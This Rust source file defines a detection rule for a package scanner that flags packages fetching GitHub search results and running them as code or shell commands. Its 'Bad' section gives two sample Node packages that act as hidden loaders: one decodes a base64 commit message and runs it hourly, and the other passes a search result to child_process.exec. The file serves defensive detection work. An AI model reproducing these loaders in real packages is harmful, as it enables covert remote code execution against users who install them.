//! # What a public code search finds is run
//!
//! The answer of a forge's search, for code, commits, repositories or issues, is run, decrypted and run, or names
//! the next host.
//!
//! ## Why it matters
//!
//! Anyone can publish what such a search finds, and no account or host of the attacker is named anywhere.
//!
//! ## Known benign uses
//!
//! Release checkers ask for the tags of a repository that they name, and compare numbers.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! const ask = async () => {
//!   const reply = await fetch("https://api.github.com/search/commits?q=orbital+moss+lantern&sort=author-date");
//!   const { items } = await reply.json();
//!   const text = Buffer.from(items[0].commit.message.split(" ").pop(), "base64").toString();
//!   new Function("require", text)(require); //~ here
//! };
//! setInterval(ask, 3600000);
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! const axios = require("axios");
//! axios.get("https://api.github.com/search/code?q=lantern-7741").then((found) => {
//!   require("child_process").exec(found.data.items[0].name); //~ here
//! });
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//!
//! exports.latest = async (repository) => {
//!   const reply = await fetch(`https://api.github.com/search/repositories?q=${repository}`);
//!   return (await reply.json()).items.map((item) => item.full_name);
//! };
//! ```
//!
//! ## References
//!
//! - StepSecurity: firedalazer commands in commit searches (May 2026)

use crate::prelude::*;

/// What a public code search finds is run.
pub struct ForgeSearchReplyRun;

impl Rule for ForgeSearchReplyRun {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "forge-search-reply-run",
            title: "What a public code search finds is run",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1102.001",
            covers: &["forge-search-c2"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_search = |source: &Source| match source {
            Source::Network(Some(host)) => host.class() == HostClass::Forge && host.path.contains("/search"),
            _ => false,
        };
        let acts = |sink: &Sink| matches!(sink, Sink::Code | Sink::Command(_));
        for flow in facts
            .flows(is_search, acts)
            .filter(|flow| flow.trigger != Trigger::Dormant && flow.source_spot != flow.sink_spot)
        {
            found.flow(flow);
        }
    }
}
